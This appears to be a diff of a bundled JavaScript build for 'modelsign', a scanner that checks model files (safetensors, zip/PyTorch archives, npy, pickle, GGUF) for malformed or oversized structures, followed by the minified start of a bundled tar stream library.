+    const [begin, end] = offs;
+    const bits = shape.reduce((a, d) => a * BigInt(d), 1n) * BigInt(SAFETENSORS_DTYPE_BITS[dtype]);
+    if (bits % 8n !== 0n || bits / 8n !== BigInt(end - begin)) {
+      add("SAFETENSORS_SIZE", `tensor ${shown} is ${end - begin} bytes but shape [${shape.join(", ")}] x ${dtype} needs ${bits % 8n === 0n ? `${bits / 8n} bytes` : `${bits} bits (not whole bytes)`}`);
+    }
+    spans.push({ name: name2, begin, end });
+  }
+  spans.sort((a, b2) => a.begin - b2.begin || a.end - b2.end);
+  let pos = 0;
+  let prev;
+  for (const s3 of spans) {
+    const shown = JSON.stringify(s3.name.slice(0, 120));
+    if (s3.begin < pos) add("SAFETENSORS_OFFSETS", `tensor ${shown} [${s3.begin}, ${s3.end}) overlaps tensor ${JSON.stringify((prev ?? "").slice(0, 120))} (which ends at ${pos})`);
+    else if (s3.begin > pos) add("SAFETENSORS_OFFSETS", `${s3.begin - pos} bytes at data offset ${pos} belong to no tensor (gap before ${shown})`);
+    if (s3.end > pos) {
+      pos = s3.end;
+      prev = s3.name;
+    }
+  }
+  if (pos > dataLen) add("SAFETENSORS_TRUNCATED", `tensors need ${pos} data bytes but the file has ${dataLen}`);
+  else if (pos < dataLen) add("SAFETENSORS_TRAILING_BYTES", `${dataLen - pos} bytes after the last tensor (data ends at ${8 + hlen + pos}, file is ${size} bytes)`);
+  return findings;
+}
+var SAFETENSORS_DTYPE_BITS, utf82;
+var init_safetensors = __esm({
+  "src/scan/safetensors.ts"() {
+    "use strict";
+    init_errors();
+    init_strict_json();
+    SAFETENSORS_DTYPE_BITS = {
+      BOOL: 8,
+      U8: 8,
+      I8: 8,
+      F8_E5M2: 8,
+      F8_E4M3: 8,
+      F8_E8M0: 8,
+      I16: 16,
+      U16: 16,
+      F16: 16,
+      BF16: 16,
+      I32: 32,
+      U32: 32,
+      F32: 32,
+      I64: 64,
+      U64: 64,
+      F64: 64,
+      C64: 64,
+      F4: 4,
+      F6_E2M3: 6,
+      F6_E3M2: 6
+    };
+    utf82 = new TextDecoder("utf-8", { fatal: true });
+  }
+});
+
+// src/scan/zip.ts
+import { open as open2 } from "node:fs/promises";
+import { createInflateRaw } from "node:zlib";
+import { Readable } from "node:stream";
+async function readAt(fh, pos, len) {
+  const b2 = Buffer.alloc(len);
+  const { bytesRead } = await fh.read(b2, 0, len, pos);
+  if (bytesRead !== len) throw new ZipError(`unexpected end of file at offset ${pos + bytesRead}`);
+  return b2;
+}
+function big(b2, at2) {
+  const v2 = b2.readBigUInt64LE(at2);
+  if (v2 > BigInt(Number.MAX_SAFE_INTEGER)) throw new ZipError("zip64 field is impossibly large");
+  return Number(v2);
+}
+async function readZipDirectory(file, size, limits) {
+  const fh = await open2(file, "r");
+  try {
+    const problems = [];
+    const tailLen = Math.min(size, 22 + 65535);
+    const tail = await readAt(fh, size - tailLen, tailLen);
+    let at2 = -1;
+    for (let i = tail.length - 22; i >= 0; i--) {
+      if (tail.readUInt32LE(i) === EOCD && i + 22 + tail.readUInt16LE(i + 20) === tail.length) {
+        at2 = i;
+        break;
+      }
+    }
+    if (at2 < 0) throw new ZipError("no end-of-central-directory record");
+    const eocdPos = size - tailLen + at2;
+    let count = tail.readUInt16LE(at2 + 10);
+    let cdSize = tail.readUInt32LE(at2 + 12);
+    let cdOffset = tail.readUInt32LE(at2 + 16);
+    if (count === 65535 || cdSize === 4294967295 || cdOffset === 4294967295) {
+      if (eocdPos < 20) throw new ZipError("zip64 locator missing");
+      const loc = await readAt(fh, eocdPos - 20, 20);
+      if (loc.readUInt32LE(0) !== ZIP64_LOCATOR) throw new ZipError("zip64 locator missing");
+      const recPos = big(loc, 8);
+      if (recPos + 56 > eocdPos) throw new ZipError("zip64 end record out of range");
+      const rec = await readAt(fh, recPos, 56);
+      if (rec.readUInt32LE(0) !== ZIP64_EOCD) throw new ZipError("bad zip64 end record");
+      count = big(rec, 32);
+      cdSize = big(rec, 40);
+      cdOffset = big(rec, 48);
+    }
+    if (count > limits.maxZipEntries) throw new ZipError(`${count} entries, more than the limit of ${limits.maxZipEntries}`);
+    if (cdSize > limits.maxZipDirectory) throw new ZipError(`central directory of ${cdSize} bytes exceeds the limit`);
+    if (cdOffset + cdSize > eocdPos) throw new ZipError("central directory lies outside the file");
+    const cd = await readAt(fh, cdOffset, cdSize);
+    const entries = [];
+    const seen = /* @__PURE__ */ new Set();
+    let p2 = 0;
+    for (let i = 0; i < count; i++) {
+      if (p2 + 46 > cd.length || cd.readUInt32LE(p2) !== CDH) throw new ZipError(`central directory entry ${i} is malformed`);
+      const flags = cd.readUInt16LE(p2 + 8);
+      const method = cd.readUInt16LE(p2 + 10);
+      let compressedSize = cd.readUInt32LE(p2 + 20);
+      let usize = cd.readUInt32LE(p2 + 24);
+      const nameLen = cd.readUInt16LE(p2 + 28);
+      const extraLen = cd.readUInt16LE(p2 + 30);
+      const commentLen = cd.readUInt16LE(p2 + 32);
+      let localOffset = cd.readUInt32LE(p2 + 42);
+      const end = p2 + 46 + nameLen + extraLen + commentLen;
+      if (end > cd.length) throw new ZipError(`central directory entry ${i} runs past the directory`);
+      const name2 = cd.subarray(p2 + 46, p2 + 46 + nameLen).toString(flags & 2048 ? "utf8" : "latin1");
+      let x = p2 + 46 + nameLen;
+      const xEnd = x + extraLen;
+      while (x + 4 <= xEnd) {
+        const id2 = cd.readUInt16LE(x);
+        const len = cd.readUInt16LE(x + 2);
+        if (x + 4 + len > xEnd) break;
+        if (id2 === 1) {
+          let q2 = x + 4;
+          const take = () => {
+            if (q2 + 8 > x + 4 + len) throw new ZipError(`zip64 extra field of ${JSON.stringify(name2)} is short`);
+            const v2 = big(cd, q2);
+            q2 += 8;
+            return v2;
+          };
+          if (usize === 4294967295) usize = take();
+          if (compressedSize === 4294967295) compressedSize = take();
+          if (localOffset === 4294967295) localOffset = take();
+        }
+        x += 4 + len;
+      }
+      p2 = end;
+      if (seen.has(name2)) problems.push(`duplicate entry name ${JSON.stringify(name2)} (readers disagree on which one counts)`);
+      seen.add(name2);
+      if (localOffset + 30 > cdOffset) throw new ZipError(`entry ${JSON.stringify(name2)} starts outside the data area`);
+      const lh = await readAt(fh, localOffset, 30);
+      if (lh.readUInt32LE(0) !== LFH) throw new ZipError(`entry ${JSON.stringify(name2)} has no local header`);
+      const lNameLen = lh.readUInt16LE(26);
+      const lExtraLen = lh.readUInt16LE(28);
+      const lName = (await readAt(fh, localOffset + 30, lNameLen)).toString(flags & 2048 ? "utf8" : "latin1");
+      if (lName !== name2) problems.push(`entry ${JSON.stringify(name2)} is named ${JSON.stringify(lName)} in its local header`);
+      const dataOffset = localOffset + 30 + lNameLen + lExtraLen;
+      if (dataOffset + compressedSize > cdOffset) throw new ZipError(`entry ${JSON.stringify(name2)} runs past the data area`);
+      entries.push({ name: name2, method, compressedSize, size: usize, localOffset, dataOffset, encrypted: (flags & 1) === 1 });
+    }
+    if (p2 !== cd.length) problems.push(`${cd.length - p2} unexplained bytes in the central directory`);
+    return { entries, problems };
+  } finally {
+    await fh.close();
+  }
+}
+function openZipMember(file, e, limits) {
+  if (e.size > limits.maxMemberBytes) throw new ZipError(`member declares ${e.size} bytes, more than the limit of ${limits.maxMemberBytes}`);
+  if (e.method === 0 && e.compressedSize !== e.size) throw new ZipError("stored member has different compressed and uncompressed sizes");
+  if (e.method === 0) return { src: ByteSource.fromFile(file, e.dataOffset, e.dataOffset + e.compressedSize), problems: [] };
+  if (e.method !== 8) throw new ZipError(`member uses compression method ${e.method}, which is not supported`);
+  if (e.size > Math.max(1 << 20, e.compressedSize * limits.maxRatio)) throw new ZipError(`member expands ${e.compressedSize} bytes to ${e.size}: compression ratio over ${limits.maxRatio}`);
+  const raw = ByteSource.fromFile(file, e.dataOffset, e.dataOffset + e.compressedSize);
+  const declared = e.size;
+  const problems = [];
+  async function* inflate() {
+    const z2 = createInflateRaw();
+    const input = Readable.from(
+      (async function* () {
+        for (; ; ) {
+          if (!await raw.ensure(1)) return;
+          yield Buffer.from(raw.take(raw.buffered));
+        }
+      })()
+    );
+    input.pipe(z2);
+    let out2 = 0;
+    try {
+      for await (const chunk of z2) {
+        if (out2 + chunk.length > declared) {
+          problems.push(`member inflates to more than its declared ${declared} bytes`);
+          if (declared > out2) yield chunk.subarray(0, declared - out2);
+          return;
+        }
+        out2 += chunk.length;
+        yield chunk;
+      }
+    } catch (err) {
+      problems.push(`member's compressed data is corrupt: ${err.message}`);
+      return;
+    } finally {
+      input.destroy();
+      z2.destroy();
+      await raw.close();
+    }
+    if (out2 !== declared) problems.push(`member inflates to ${out2} bytes, not the declared ${declared}`);
+  }
+  return { src: ByteSource.fromIterable(inflate(), declared), problems };
+}
+var ZipError, EOCD, ZIP64_LOCATOR, ZIP64_EOCD, CDH, LFH;
+var init_zip = __esm({
+  "src/scan/zip.ts"() {
+    "use strict";
+    init_source2();
+    ZipError = class extends Error {
+    };
+    EOCD = 101010256;
+    ZIP64_LOCATOR = 117853008;
+    ZIP64_EOCD = 101075792;
+    CDH = 33639248;
+    LFH = 67324752;
+  }
+});
+
+// src/scan/scan-file.ts
+import { stat as stat2 } from "node:fs/promises";
+async function scanStream(src, kind, size, file, limits, member) {
+  const where = member !== void 0 ? { member } : {};
+  switch (kind) {
+    case "pickle": {
+      const r = await walkPickles(src, { file, limits, ...where });
+      return { format: "pickle", pickle: true, imports: r.imports, findings: r.findings };
+    }
+    case "npy": {
+      const h = await readNpyHeader(src);
+      if (!h.ok) return { format: "npy", pickle: false, imports: [], findings: [{ code: "NPY_MALFORMED", severity: "high", file, ...where, message: `not a valid .npy file: ${h.problem}` }] };
+      if (!h.objectDtype) return { format: "npy", pickle: false, imports: [], findings: [] };
+      const r = await walkPickles(src, { file, limits, multiple: false, ...where });
+      return { format: "npy", pickle: true, imports: r.imports, findings: r.findings };
+    }
+    case "safetensors":
+      return { format: "safetensors", pickle: false, imports: [], findings: await checkSafetensors(src, size, file, limits, member) };
+    case "gguf":
+      return { format: "gguf", pickle: false, imports: [], findings: await checkGguf(src, size, file, limits, member) };
+    default:
+      return { format: "unknown", pickle: false, imports: [], findings: [] };
+  }
+}
+async function scanZip(abs, size, file, limits) {
+  const findings = [];
+  const imports = [];
+  let pickle = false;
+  let dir;
+  try {
+    dir = await readZipDirectory(abs, size, limits);
+  } catch (e) {
+    if (!(e instanceof ZipError)) throw e;
+    findings.push({ code: "ZIP_MALFORMED", severity: "high", file, message: `zip container cannot be read safely: ${e.message}` });
+    return { format: "zip", pickle: false, imports, findings };
+  }
+  for (const p2 of dir.problems) findings.push({ code: "ZIP_MALFORMED", severity: "high", file, message: p2 });
+  const names = dir.entries.map((e) => e.name);
+  const format = names.some((n) => n === "data.pkl" || n.endsWith("/data.pkl")) ? "pytorch" : names.length > 0 && names.every((n) => n.endsWith(".npy")) ? "npz" : "zip";
+  for (const e of dir.entries) {
+    if (e.name.endsWith("/") || !memberWorthScanning(e.name)) continue;
+    const member = e.name;
+    if (e.encrypted) {
+      findings.push({ code: "ZIP_ENCRYPTED", severity: "high", file, member, message: "member is encrypted and cannot be scanned" });
+      continue;
+    }
+    let src;
+    try {
+      const opened = openZipMember(abs, e, limits);
+      src = opened.src;
+      await src.ensure(SNIFF_BYTES);
+      const kind = sniff(src.peek(SNIFF_BYTES), member);
+      if (kind === "zip") {
+        for (const p2 of opened.problems) findings.push({ code: "ZIP_MALFORMED", severity: "high", file, member, message: p2 });
+        findings.push({ code: "ZIP_NESTED", severity: "medium", file, member, message: "member is itself a zip archive; nested archives are not scanned" });
+        continue;
+      }
+      const r = await scanStream(src, kind, e.size, file, limits, member);
+      pickle ||= r.pickle;
+      imports.push(...r.imports);
+      findings.push(...r.findings);
+      await src.drain();
+      for (const p2 of opened.problems) findings.push({ code: "ZIP_MALFORMED", severity: "high", file, member, message: p2 });
+    } catch (err) {
+      if (!(err instanceof ZipError)) throw err;
+      findings.push({ code: "ZIP_MALFORMED", severity: "high", file, member, message: err.message });
+    } finally {
+      await src?.close();
+    }
+  }
+  return { format, pickle, imports, findings };
+}
+function report(file, size, r) {
+  const findings = [...r.findings];
+  if (r.format === "unknown" && OPAQUE_ARCHIVE.test(file)) {
+    findings.push({ code: "SCAN_SKIPPED", severity: "medium", file, message: "compressed or archive format that modelsign cannot look inside; not scanned (use .tar, .tar.gz or zip)" });
+  }
+  return { file, size, format: r.format, pickle: r.pickle, imports: r.imports, findings };
+}
+async function scanFile(abs, file, limits) {
+  const size = (await stat2(abs)).size;
+  const src = ByteSource.fromFile(abs);
+  try {
+    await src.ensure(SNIFF_BYTES);
+    const kind = sniff(src.peek(SNIFF_BYTES), file);
+    if (kind === "zip") {
+      await src.close();
+      return report(file, size, await scanZip(abs, size, file, limits));
+    }
+    return report(file, size, await scanStream(src, kind, size, file, limits));
+  } finally {
+    await src.close();
+  }
+}
+var OPAQUE_ARCHIVE;
+var init_scan_file = __esm({
+  "src/scan/scan-file.ts"() {
+    "use strict";
+    init_detect();
+    init_gguf();
+    init_npy();
+    init_pickle();
+    init_safetensors();
+    init_source2();
+    init_zip();
+    OPAQUE_ARCHIVE = /\.(?:tar\.[a-z0-9]+|tzst|tbz2?|txz|zst|bz2|xz|lz4|7z|rar|gz|br)$/i;
+  }
+});
+
+// node_modules/tar/dist/esm/index.min.js
+var index_min_exports = {};
+__export(index_min_exports, {
+  Header: () => F,
+  Pack: () => wt,
+  PackJob: () => pi,
+  PackSync: () => kt,
+  Parser: () => rt,
+  Pax: () => ft,
+  ReadEntry: () => $e,
+  Unpack: () => Xt,
+  UnpackSync: () => xe,
+  WriteEntry: () => de,
+  WriteEntrySync: () => ni,
+  WriteEntryTar: () => oi,
+  c: () => Qn,
+  create: () => Qn,
+  extract: () => So,
+  filesFilter: () => Qi,
+  list: () => Ct,
+  r: () => vt,
+  replace: () => vt,
+  t: () => Ct,
+  types: () => Hi,
+  u: () => Oo,
+  update: () => Oo,
+  x: () => So
+});
+import Qr from "events";
+import I from "fs";
+import { EventEmitter as Di } from "node:events";
+import Cs from "node:stream";
+import { StringDecoder as Hr } from "node:string_decoder";
+import cr from "node:path";
+import Kt from "node:fs";
+import { dirname as Fn, parse as kn } from "path";
+import { EventEmitter as Dn } from "events";
+import zi from "assert";
+import { Buffer as Ot } from "buffer";
+import * as Ps from "zlib";
+import en from "zlib";
+import { posix as Zt } from "node:path";
+import { basename as _n } from "node:path";
+import mi from "fs";
+import X from "fs";
+import js from "path";
+import { win32 as Pn } from "node:path";
+import ar from "path";
+import Br from "node:fs";
+import co from "node:assert";
+import { randomBytes as Mr } from "node:crypto";
+import u from "node:fs";
+import R from "node:path";
+import pr from "fs";
+import wi from "node:fs";
+import we from "node:path";
+import k from "node:fs";
+import ro from "node:fs/promises";
+import Si from "node:path";
+import { join as xr } from "node:path";
+import v from "node:fs";
+import Pr from "node:path";
+function Zn(s3, t, e) {
+  let i = t, r = t ? t.next : s3.head, n = new ue(e, i, r, s3);
+  return n.next === void 0 && (s3.tail = n), n.prev === void 0 && (s3.head = n), s3.length++, n;
+}
+function Yn(s3, t) {
+  s3.tail = new ue(t, s3.tail, void 0, s3), s3.head || (s3.head = s3.tail), s3.length++;
+}
+function Kn(s3, t) {
+  s3.head = new ue(t, void 0, s3.head, s3), s3.tail || (s3.tail = s3.head), s3.length++;
+}
+var zr, Ur, Ds, Wr, Gr, Zr, Q, J, nt, De, qt, Ne, Ns, Ae, As, z, Mt, g, Qt, Bt, b, N, _, bi, Ie, L, S, _i, Oi, Is, Ti, Z, xi, Ce, Jt, Rt, C, jt, Yr, Kr, Vr, $r, Fe, Li, Xr, qr, A, Jr, ht, H, te, m, Ni, tt, Ai, ki, vi, ie, ke, Ut, Ht, Ii, Pt, at, U, ot, Y, zt, Ci, j, ee, Fi, ve, gt, Me, bt, _t, Be, et, Wt, jr, Fs, ks, vs, Ms, Bs, tn, se, K, sn, M, rn, zs, nn, Bi, Tt, Gt, Pi, re, Pe, ze, Ue, He, We, Ge, Ze, Ye, Ke, Us, hn, an, Hs, ln, cn, Ws, Gs, Hi, ne, dn, Ui, oe, Ve, un, F, mn, xt, Wi, pn, lt, En, wn, Sn, ct, yn, Rn, gn, Gi, bn, Lt, ft, On, Tn, xn, Ln, f, $e, Dt, Nn, Xi, qi, An, B, Nt, it, Zi, Zs, V, he, dt, Ys, p, st, ut, Yi, At, w, Xe, qe, Ki, Ks, Vs, ae, Vi, Qe, Yt, $, Je, It, je, ti, $s, In, le, $i, Xs, Cn, rt, mt, vn, Qi, Mn, Bn, Ct, Ji, zn, qs, ce, ei, ji, Un, Hn, ts, Qs, rr, Wn, tr, er, ir, is, sr, fe, ii, ss, si, rs, ns, os4, hs, pt, ri, as, es, q, de, ni, oi, Gn, hi, ue, pi, nr, li, me, W, pe, Et, Ft, Ee, ai, G, ls, ci, or, ds, us, fi, di, hr, cs, ui, lr, fs, wt, kt, Vn, $n, fr, dr, Xn, qn, Qn, Jn, Er, wr, ur, Sr, yr, Rr, jn, to, eo, mr, ms, ps, Ei, io, Es, so, ws, Se, St, no, gr, Ss, br, oo, _r, ys, Or, Vt, Tr, ho, ao, lo, yi, Lr, Dr, _s, Nr, Os, P, Ts, xs, gi, Ar, Ir, Re, Cr, Fr, Rs, yt, O, Ri, kr, $t, gs, bs, Ls, ge, be, _e, Oe, fo, Te, uo, mo, po, vr, Xt, ye, xe, Eo, wo, So, yo, Ro, go, bo, _o, vt, Oo, To;
+var init_index_min = __esm({
+  "node_modules/tar/dist/esm/index.min.js"() {
+    zr = Object.defineProperty;
+    Ur = (s3, t) => {
+      for (var e in t) zr(s3, e, { get: t[e], enumerable: true });
+    };
+    Ds = typeof process == "object" && process ? process : { stdout: null, stderr: null };
+    Wr = (s3) => !!s3 && typeof s3 == "object" && (s3 instanceof A || s3 instanceof Cs || Gr(s3) || Zr(s3));
+    Gr = (s3) => !!s3 && typeof s3 == "object" && s3 instanceof Di && typeof s3.pipe == "function" && s3.pipe !== Cs.Writable.prototype.pipe;
+    Zr = (s3) => !!s3 && typeof s3 == "object" && s3 instanceof Di && typeof s3.write == "function" && typeof s3.end == "function";
+    Q = Symbol("EOF");
+    J = Symbol("maybeEmitEnd");
+    nt = Symbol("emittedEnd");
+    De = Symbol("emittingEnd");
+    qt = Symbol("emittedError");
+    Ne = Symbol("closed");
+    Ns = Symbol("read");
+    Ae = Symbol("flush");
+    As = Symbol("flushChunk");
+    z = Symbol("encoding");
+    Mt = Symbol("decoder");
+    g = Symbol("flowing");
+    Qt = Symbol("paused");
+    Bt = Symbol("resume");
+    b = Symbol("buffer");
+    N = Symbol("pipes");
+    _ = Symbol("bufferLength");
+    bi = Symbol("bufferPush");
+    Ie = Symbol("bufferShift");
+    L = Symbol("objectMode");
+    S = Symbol("destroyed");
+    _i = Symbol("error");
+    Oi = Symbol("emitData");
+    Is = Symbol("emitEnd");
+    Ti = Symbol("emitEnd2");
+    Z = Symbol("async");
+    xi = Symbol("abort");
+    Ce = Symbol("aborted");
+    Jt = Symbol("signal");
+    Rt = Symbol("dataListeners");
+    C = Symbol("discarded");
+    jt = (s3) => Promise.resolve().then(s3);
+    Yr = (s3) => s3();
+    Kr = (s3) => s3 === "end" || s3 === "finish" || s3 === "prefinish";
+    Vr = (s3) => s3 instanceof ArrayBuffer || !!s3 && typeof s3 == "object" && s3.constructor && s3.constructor.name === "ArrayBuffer" && s3.byteLength >= 0;
+    $r = (s3) => !Buffer.isBuffer(s3) && ArrayBuffer.isView(s3);
+    Fe = class {
+      src;
+      dest;
+      opts;
+      ondrain;
+      constructor(t, e, i) {
+        this.src = t, this.dest = e, this.opts = i, this.ondrain = () => t[Bt](), this.dest.on("drain", this.ondrain);
+      }
+      unpipe() {
+        this.dest.removeListener("drain", this.ondrain);
+      }
+      proxyErrors(t) {
+      }
+      end() {
+        this.unpipe(), this.opts.end && this.dest.end();
+      }
+    };
+    Li = class extends Fe {
+      unpipe() {
+        this.src.removeListener("error", this.proxyErrors), super.unpipe();
+      }
+      constructor(t, e, i) {
+        super(t, e, i), this.proxyErrors = (r) => this.dest.emit("error", r), t.on("error", this.proxyErrors);
+      }
+    };
+    Xr = (s3) => !!s3.objectMode;
+    qr = (s3) => !s3.objectMode && !!s3.encoding && s3.encoding !== "buffer";
+    A = class extends Di {
+      [g] = false;
+      [Qt] = false;
+      [N] = [];
+      [b] = [];
+      [L];
+      [z];
+      [Z];
+      [Mt];
+      [Q] = false;
+      [nt] = false;
+      [De] = false;
+      [Ne] = false;
+      [qt] = null;
+      [_] = 0;
+      [S] = false;
+      [Jt];
+      [Ce] = false;
+      [Rt] = 0;
+      [C] = false;
+      writable = true;
+      readable = true;
+      constructor(...t) {
+        let e = t[0] || {};
+        if (super(), e.objectMode && typeof e.encoding == "string") throw new TypeError("Encoding and objectMode may not be used together");
+        Xr(e) ? (this[L] = true, this[z] = null) : qr(e) ? (this[z] = e.encoding, this[L] = false) : (this[L] = false, this[z] = null), this[Z] = !!e.async, this[Mt] = this[z] ? new Hr(this[z]) : null, e && e.debugExposeBuffer === true && Object.defineProperty(this, "buffer", { get: () => this[b] }), e && e.debugExposePipes === true && Object.defineProperty(this, "pipes", { get: () => this[N] });
+        let { signal: i } = e;
+        i && (this[Jt] = i, i.aborted ? this[xi]() : i.addEventListener("abort", () => this[xi]()));
+      }
+      get bufferLength() {
+        return this[_];
+      }
+      get encoding() {
+        return this[z];
+      }
+      set encoding(t) {
+        throw new Error("Encoding must be set at instantiation time");
+      }
+      setEncoding(t) {
+        throw new Error("Encoding must be set at instantiation time");
+      }
+      get objectMode() {
+        return this[L];
+      }
+      set objectMode(t) {
+        throw new Error("objectMode must be set at instantiation time");
+      }
+      get async() {
+        return this[Z];
+      }
+      set async(t) {
+        this[Z] = this[Z] || !!t;
+      }
+      [xi]() {
+        this[Ce] = true, this.emit("abort", this[Jt]?.reason), this.destroy(this[Jt]?.reason);
+      }
+      get aborted() {
+        return this[Ce];
+      }
+      set aborted(t) {
+      }
+      write(t, e, i) {
+        if (this[Ce]) return false;
+        if (this[Q]) throw new Error("write after end");
+        if (this[S]) return this.emit("error", Object.assign(new Error("Cannot call write after a stream was destroyed"), { code: "ERR_STREAM_DESTROYED" })), true;
+        typeof e == "function" && (i = e, e = "utf8"), e || (e = "utf8");
+        let r = this[Z] ? jt : Yr;
+        if (!this[L] && !Buffer.isBuffer(t)) {
+          if ($r(t)) t = Buffer.from(t.buffer, t.byteOffset, t.byteLength);
+          else if (Vr(t)) t = Buffer.from(t);
+          else if (typeof t != "string") throw new Error("Non-contiguous data written to non-objectMode stream");
+        }
+        return this[L] ? (this[g] && this[_] !== 0 && this[Ae](true), this[g] ? this.emit("data", t) : this[bi](t), this[_] !== 0 && this.emit("readable"), i && r(i), this[g]) : t.length ? (typeof t == "string" && !(e === this[z] && !this[Mt]?.lastNeed) && (t = Buffer.from(t, e)), Buffer.isBuffer(t) && this[z] && (t = this[Mt].write(t)), this[g] && this[_] !== 0 && this[Ae](true), this[g] ? this.emit("data", t) : this[bi](t), this[_] !== 0 && this.emit("readable"), i && r(i), this[g]) : (this[_] !== 0 && this.emit("readable"), i && r(i), this[g]);
+      }
+      read(t) {
+        if (this[S]) return null;
+        if (this[C] = false, this[_] === 0 || t === 0 || t && t > this[_]) return this[J](), null;
+        this[L] && (t = null), this[b].length > 1 && !this[L] && (this[b] = [this[z] ? this[b].join("") : Buffer.concat(this[b], this[_])]);
+        let e = this[Ns](t || null, this[b][0]);
+        return this[J](), e;
+      }
+      [Ns](t, e) {
+        if (this[L]) this[Ie]();
+        else {
+          let i = e;
+          t === i.length || t === null ? this[Ie]() : typeof i == "string" ? (this[b][0] = i.slice(t), e = i.slice(0, t), this[_] -= t) : (this[b][0] = i.subarray(t), e = i.subarray(0, t), this[_] -= t);
+        }
+        return this.emit("data", e), !this[b].length && !this[Q] && this.emit("drain"), e;
+      }
+      end(t, e, i) {
+        return typeof t == "function" && (i = t, t = void 0), typeof e == "function" && (i = e, e = "utf8"), t !== void 0 && this.write(t, e), i && this.once("end", i), this[Q] = true, this.writable = false, (this[g] || !this[Qt]) && this[J](), this;
+      }
+      [Bt]() {
+        this[S] || (!this[Rt] && !this[N].length && (this[C] = true), this[Qt] = false, this[g] = true, this.emit("resume"), this[b].length ? this[Ae]() : this[Q] ? this[J]() : this.emit("drain"));
+      }
+      resume() {
+        return this[Bt]();
+      }
+      pause() {
+        this[g] = false, this[Qt] = true, this[C] = false;
+      }
+      get destroyed() {
+        return this[S];
+      }
+      get flowing() {
+        return this[g];
+      }
+      get paused() {
+        return this[Qt];
+      }
+      [bi](t) {
+        this[L] ? this[_] += 1 : this[_] += t.length, this[b].push(t);
+      }
+      [Ie]() {
+        return this[L] ? this[_] -= 1 : this[_] -= this[b][0].length, this[b].shift();
+      }
+      [Ae](t = false) {
+        do
+          ;
+        while (this[As](this[Ie]()) && this[b].length);
+        !t && !this[b].length && !this[Q] && this.emit("drain");
+      }
+      [As](t) {
+        return this.emit("data", t), this[g];
+      }
+      pipe(t, e) {
+        if (this[S]) return t;
+        this[C] = false;
+        let i = this[nt];
+        return e = e || {}, t === Ds.stdout || t === Ds.stderr ? e.end = false : e.end = e.end !== false, e.proxyErrors = !!e.proxyErrors, i ? e.end && t.end() : (this[N].push(e.proxyErrors ? new Li(this, t, e) : new Fe(this, t, e)), this[Z] ? jt(() => this[Bt]()) : this[Bt]()), t;
+      }
+      unpipe(t) {
+        let e = this[N].find((i) => i.dest === t);
+        e && (this[N].length === 1 ? (this[g] && this[Rt] === 0 && (this[g] = false), this[N] = []) : this[N].splice(this[N].indexOf(e), 1), e.unpipe());
+      }
+      addListener(t, e) {
+        return this.on(t, e);
+      }
+      on(t, e) {
+        let i = super.on(t, e);
+        if (t === "data") this[C] = false, this[Rt]++, !this[N].length && !this[g] && this[Bt]();
+        else if (t === "readable" && this[_] !== 0) super.emit("readable");
+        else if (Kr(t) && this[nt]) super.emit(t), this.removeAllListeners(t);
+        else if (t === "error" && this[qt]) {
+          let r = e;
+          this[Z] ? jt(() => r.call(this, this[qt])) : r.call(this, this[qt]);
+        }
+        return i;
+      }
+      removeListener(t, e) {
+        return this.off(t, e);
+      }
+      off(t, e) {
+        let i = super.off(t, e);
+        return t === "data" && (this[Rt] = this.listeners("data").length, this[Rt] === 0 && !this[C] && !this[N].length && (this[g] = false)), i;
+      }
+      removeAllListeners(t) {
+        let e = super.removeAllListeners(t);
+        return (t === "data" || t === void 0) && (this[Rt] = 0, !this[C] && !this[N].length && (this[g] = false)), e;
+      }
+      get emittedEnd() {
+        return this[nt];
+      }
+      [J]() {
+        !this[De] && !this[nt] && !this[S] && this[b].length === 0 && this[Q] && (this[De] = true, this.emit("end"), this.emit("prefinish"), this.emit("finish"), this[Ne] && this.emit("close"), this[De] = false);
+      }
+      emit(t, ...e) {
+        let i = e[0];
+        if (t !== "error" && t !== "close" && t !== S && this[S]) return false;
+        if (t === "data") return !this[L] && !i ? false : this[Z] ? (jt(() => this[Oi](i)), true) : this[Oi](i);
+        if (t === "end") return this[Is]();
+        if (t === "close") {
+          if (this[Ne] = true, !this[nt] && !this[S]) return false;
+          let n = super.emit("close");
+          return this.removeAllListeners("close"), n;
+        } else if (t === "error") {
+          this[qt] = i, super.emit(_i, i);
+          let n = !this[Jt] || this.listeners("error").length ? super.emit("error", i) : false;
+          return this[J](), n;
+        } else if (t === "resume") {
+          let n = super.emit("resume");
+          return this[J](), n;
+        } else if (t === "finish" || t === "prefinish") {
+          let n = super.emit(t);
+          return this.removeAllListeners(t), n;
+        }
+        let r = super.emit(t, ...e);
+        return this[J](), r;
+      }
+      [Oi](t) {
+        for (let i of this[N]) i.dest.write(t) === false && this.pause();
+        let e = this[C] ? false : super.emit("data", t);
+        return this[J](), e;
+      }
+      [Is]() {
+        return this[nt] ? false : (this[nt] = true, this.readable = false, this[Z] ? (jt(() => this[Ti]()), true) : this[Ti]());
+      }
+      [Ti]() {
+        if (this[Mt]) {
+          let e = this[Mt].end();
+          if (e) {
+            for (let i of this[N]) i.dest.write(e);
+            this[C] || super.emit("data", e);
+          }
+        }
+        for (let e of this[N]) e.end();
+        let t = super.emit("end");
+        return this.removeAllListeners("end"), t;
+      }
+      async collect() {
+        let t = Object.assign([], { dataLength: 0 });
+        this[L] || (t.dataLength = 0);
+        let e = this.promise();
+        return this.on("data", (i) => {
+          t.push(i), this[L] || (t.dataLength += i.length);
+        }), await e, t;
+      }
+      async concat() {
+        if (this[L]) throw new Error("cannot concat in objectMode");
+        let t = await this.collect();
+        return this[z] ? t.join("") : Buffer.concat(t, t.dataLength);
+      }
+      async promise() {
+        return new Promise((t, e) => {
+          this.on(S, () => e(new Error("stream destroyed"))), this.on("error", (i) => e(i)), this.on("end", () => t());
+        });
+      }
+      [Symbol.asyncIterator]() {
+        this[C] = false;
+        let t = false, e = async () => (this.pause(), t = true, { value: void 0, done: true });
+        return { next: () => {
+          if (t) return e();
+          let r = this.read();
+          if (r !== null) return Promise.resolve({ done: false, value: r });
+          if (this[Q]) return e();
+          let n, o, h = (d) => {
+            this.off("data", a), this.off("end", l), this.off(S, c), e(), o(d);
+          }, a = (d) => {
+            this.off("error", h), this.off("end", l), this.off(S, c), this.pause(), n({ value: d, done: !!this[Q] });
+          }, l = () => {
+            this.off("error", h), this.off("data", a), this.off(S, c), e(), n({ done: true, value: void 0 });
+          }, c = () => h(new Error("stream destroyed"));
+          return new Promise((d, y) => {
+            o = y, n = d, this.once(S, c), this.once("error", h), this.once("end", l), this.once("data", a);
+          });
+        }, throw: e, return: e, [Symbol.asyncIterator]() {
+          return this;
+        }, [Symbol.asyncDispose]: async () => {
+        } };
+      }
+      [Symbol.iterator]() {
+        this[C] = false;
